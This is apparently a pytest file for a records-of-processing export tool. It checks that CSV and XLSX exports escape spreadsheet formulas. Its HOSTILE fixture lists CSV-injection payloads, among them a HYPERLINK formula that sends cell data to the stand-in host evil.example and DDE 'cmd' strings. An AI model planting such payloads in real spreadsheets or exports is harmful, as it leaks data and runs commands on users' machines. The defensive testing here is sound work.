"""Exports: text from the register never runs as a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from schema.document import RopaDocument
from schema.ropa_export.cells import FORMULA_TRIGGERS, csv_cell
from schema.ropa_export.formats import ExportFormat, render
from schema.ropa_export.records import build_export
from tests.support.examples import school_record

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "allestree-woodlands.yaml"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def hostile_doc() -> RopaDocument:
    """The example, with every organisation and activity named by a formula."""
    doc = school_record()
    organisations = [
        org.model_copy(update={"name": HOSTILE[i % len(HOSTILE)]})
        for i, org in enumerate(doc.organisations)
    ]
    activities = [
        act.model_copy(update={"name": HOSTILE[i % len(HOSTILE)], "purposes": HOSTILE})
        for i, act in enumerate(doc.activities)
    ]
    return doc.model_copy(update={"organisations": organisations, "activities": activities})


def test_csv_cells_beginning_with_a_formula_trigger_are_prefixed_with_a_quote() -> None:
    for value in HOSTILE:
        assert csv_cell(value) == "'" + value
    assert csv_cell("Link ICT Services Limited") == "Link ICT Services Limited"
    assert csv_cell("a=b") == "a=b"  # only the first character matters
    assert csv_cell("") == ""


def test_no_csv_cell_of_a_hostile_register_begins_with_a_formula_trigger(
    hostile_doc: RopaDocument,
) -> None:
    export = build_export(hostile_doc, dt.date(2022, 3, 1))
    text = render(export, ExportFormat.ICO_CSV).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    # The payload is still there, as text, for the reader to see.
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert any(cell.startswith("'+cmd") for cell in cells)


def test_xlsx_cells_are_strings_never_formulas(hostile_doc: RopaDocument) -> None:
    export = build_export(hostile_doc, dt.date(2022, 3, 1))
    data = render(export, ExportFormat.ICO_XLSX)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name)
            assert b"<f>" not in xml
            assert b"<f " not in xml
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
    # The exact text survives (no quote added: the cell's type already says it is text).
    assert HOSTILE[0] in values
